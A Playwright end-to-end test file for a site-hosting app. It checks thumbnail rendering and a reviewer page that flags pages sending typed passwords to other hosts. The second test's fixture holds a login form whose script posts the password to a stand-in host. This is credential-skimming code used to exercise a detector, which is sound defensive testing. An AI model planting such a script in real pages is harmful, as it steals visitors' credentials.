import { expect, test } from '@playwright/test';
import { ADMIN, apiToken, createAccount, signIn } from './helpers';
import { review, page as sitePage, uploadSite } from './site-helpers';

/**
 * The render worker (docs/render.md) in the running app: an approved site gets its picture, and
 * the showcase card shows it in place of the letter.
 */
test('a live site’s showcase card shows its rendered picture', async ({ page, request }) => {
  const owner = await createAccount(request, 'painter');
  const token = await apiToken(request, owner.username, owner.password);
  const name = `截图展示${Date.now() % 100_000}`;
  const site = await uploadSite(request, token, name, sitePage(name, '有图有真相'), '带截图的站点');
  await review(request, site.id, 'approve');

  // Rendered in the background: the card's picture appears once the job is done.
  await expect
    .poll(
      async () => {
        const res = await request.get(`/api/projects/public?search=${encodeURIComponent(name)}`);
        const card = (await res.json()).data.projects.find((p: { id: number }) => p.id === site.id);
        return card?.thumbnail_url ?? null;
      },
      { timeout: 30_000, intervals: [500] },
    )
    .toMatch(/^\/api\/thumbnails\/[0-9a-f]{64}\.webp$/);

  await page.goto(`/public?search=${encodeURIComponent(name)}`);
  const card = page.getByRole('article', { name });
  const picture = card.locator('img.showcase-card__picture');
  await expect(picture).toBeVisible();
  await expect
    .poll(() => picture.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
    .toBe(640);
  await expect(card.locator('.showcase-card__initial')).toHaveCount(0);

  // The owner's project page shows it too, fetched with the session into an object URL (which the
  // app's CSP allows as an image).
  await signIn(page, owner.username, owner.password);
  await expect(page).toHaveURL(/\/dashboard$/);
  await page.goto(`/projects/${site.id}`);
  const own = page.locator('img.project-picture');
  await expect(own).toBeVisible();
  await expect(own).toHaveAttribute('src', /^blob:/);
  await expect
    .poll(() => own.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
    .toBe(640);
});

/**
 * The render's visitor (docs/render.md "The visitor") in the running app: a page that sends the
 * password typed into it to another host; the reviewer sees the finding naming the field and the
 * host, and the render's state on the review detail.
 */
test('the review detail shows the render’s state and a typed password leaving for another host', async ({
  page,
  request,
}) => {
  test.setTimeout(180_000);
  const owner = await createAccount(request, 'visitor');
  const token = await apiToken(request, owner.username, owner.password);
  const name = `会员登录${Date.now() % 100_000}`;
  const site = await uploadSite(request, token, name, {
    'index.html': [
      '<!doctype html><meta charset="utf-8"><title>会员登录</title>',
      '<form><input name="account" placeholder="账号"><input type="password" name="passwd" placeholder="密码"><button>登录</button></form>',
      '<script>document.querySelector("form").onsubmit = function (e) { e.preventDefault();',
      '  fetch("https://gather.visitor-e2e.example/p", { method: "POST", body: document.querySelector("[name=passwd]").value }); };</script>',
    ].join('\n'),
  });

  await signIn(page, ADMIN.username, ADMIN.password);
  await expect(page).not.toHaveURL(/\/login/);
  await page.goto(`/admin/reviews/${site.id}`);
  const renders = page.getByRole('list', { name: '渲染' });
  // Rendered in the background: the card says so once the job is done (the page is reloaded to see it).
  await expect(async () => {
    await page.reload();
    await expect(renders.getByText('已完成')).toBeVisible({ timeout: 10_000 });
  }).toPass({ timeout: 150_000, intervals: [2_000] });
  await expect(renders.getByText('版本 v1')).toBeVisible();
  await expect(renders.getByText('最新版本')).toBeVisible();
  // In the findings table (the reason above it names the same finding).
  await expect(
    page.getByRole('cell', {
      name: '页面把访客在“passwd”中输入的密码发往其他主机 gather.visitor-e2e.example（fetch 请求，明文）',
    }),
  ).toBeVisible();
});
